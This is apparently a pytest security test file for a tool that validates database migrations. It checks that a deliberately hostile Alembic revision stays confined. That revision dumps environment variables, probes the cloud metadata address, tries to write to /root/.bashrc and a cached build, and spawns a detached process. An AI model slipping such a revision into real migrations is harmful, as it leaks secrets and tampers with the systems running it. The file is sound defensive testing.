"""Hostile code in what the versioned tool, the seed and the populated replay run, and in a
cached build: the same confinement as every other command of the change.

An Alembic revision, `env.py` and a seed command are the change's code (or the base's, run
beside it): they get the constructed environment, the run's account, loopback only, and a
stored build they can read but never change.
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from tests.helpers import commit, git, running_with
from tests.security.test_hostile import CANARIES, _validate

pytestmark = [
    pytest.mark.timeout(300),
    pytest.mark.skipif(os.geteuid() != 0, reason="the run account needs root"),
]

ENV_PY = """\
import os
from alembic import context
from sqlalchemy import MetaData, create_engine

url = "postgresql+psycopg://{DB_USER}:{DB_PASSWORD}@{DB_HOST}:{DB_PORT}/{DB_NAME}".format(
    **os.environ
)
with create_engine(url).connect() as connection:
    context.configure(connection=connection, target_metadata=MetaData())
    with context.begin_transaction():
        context.run_migrations()
"""
FIRST = """\
revision = "0001"
down_revision = None


def upgrade():
    pass


def downgrade():
    pass
"""
# The hostile revision: everything it learns goes into an exception, so into the verdict.
HOSTILE = """\
import os, socket, subprocess
from alembic import op

revision = "0002"
down_revision = "0001"


def upgrade():
    found = [f"uid={os.getuid()}", " ".join(f"{k}={v}" for k, v in os.environ.items())]
    probe = socket.socket()
    probe.settimeout(2)
    found.append(f"metadata={probe.connect_ex(('169.254.169.254', 80))}")
    for path in ("/root/.bashrc", "venv/tool"):
        try:
            open(path, "a").write("poisoned")
            found.append(f"wrote {path}")
        except OSError as exc:
            found.append(f"{path}: {type(exc).__name__}")
    subprocess.Popen(["setsid", os.environ["TMPDIR"] + "/{marker}", "300"])
    raise RuntimeError("LEAK " + " | ".join(found))


def downgrade():
    pass
"""


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    policy = f"""\
version: 1
build:
  commands: ["mkdir -p venv && echo tool > venv/tool"]
  cache_key: [requirements.txt]
  cache_paths: [venv]
migrations: {{tool: alembic, python: {sys.executable}}}
seed: {{commands: ["echo seed uid=$(id -u)"]}}
timeouts: {{lock_timeout: 1s, statement_timeout: 20s, run: 60}}
"""
    commit(
        repo,
        {
            ".github/gatekeeper.yml": policy,
            "requirements.txt": "nothing\n",
            "alembic.ini": "[alembic]\nscript_location = alembic\n",
            "alembic/env.py": ENV_PY,
            "alembic/versions/0001_first.py": FIRST,
        },
        "main",
    )
    return repo


def test_a_hostile_revision_is_confined_and_cannot_touch_the_stored_build(
    repo, tmp_path, monkeypatch
):
    marker = f"gk-revision-{os.getpid()}"
    git(repo, "checkout", "-qb", "builder/revision", "main")
    commit(
        repo,
        {"alembic/versions/0002_hostile.py": HOSTILE.replace("{marker}", marker)},
        "hostile revision",
    )
    git(repo, "checkout", "-q", "main")
    cache = tmp_path / "cache"
    monkeypatch.setenv("GATEKEEPER_BUILD_CACHE", str(cache))
    # _validate plants the canaries and fails on any that leaks, plain or base64.
    proc, verdict = _validate(repo, "builder/revision", tmp_path / "out")
    assert proc.returncode == 1, proc.stderr
    evidence = next(c for c in verdict["criteria"] if c["id"] == "migrate.apply")["evidence"]
    assert "LEAK uid=" in evidence and "LEAK uid=0 " not in evidence
    assert "metadata=101" in evidence  # no route: the network namespace has loopback only
    assert "/root/.bashrc: PermissionError" in evidence or "/root/.bashrc: FileNotFound" in evidence
    # The stored build was linked into the checkout, ours and read-only to the change.
    assert "venv/tool: PermissionError" in evidence
    (entry,) = [p for p in cache.iterdir() if not p.name.startswith(".")]
    assert (entry / "paths" / "venv" / "tool").read_text() == "tool\n"
    for value in CANARIES.values():
        assert value not in evidence
    assert running_with(marker) == []


def test_a_seed_runs_as_the_run_account(repo, tmp_path):
    git(repo, "checkout", "-qb", "builder/nothing", "main")
    commit(repo, {"README": "x\n"}, "nothing")
    git(repo, "checkout", "-q", "main")
    commit(
        repo,
        {
            ".github/gatekeeper.yml": (repo / ".github/gatekeeper.yml")
            .read_text()
            .replace("echo seed uid=$(id -u)", "echo seed uid=$(id -u); exit 4")
        },
        "seed",
    )
    proc, verdict = _validate(repo, "builder/nothing", tmp_path / "out")
    assert proc.returncode == 2
    assert "seed" in verdict["summary"] and "exited 4" in verdict["summary"]
    said = str(verdict)
    assert "uid=" in said and "uid=0" not in said
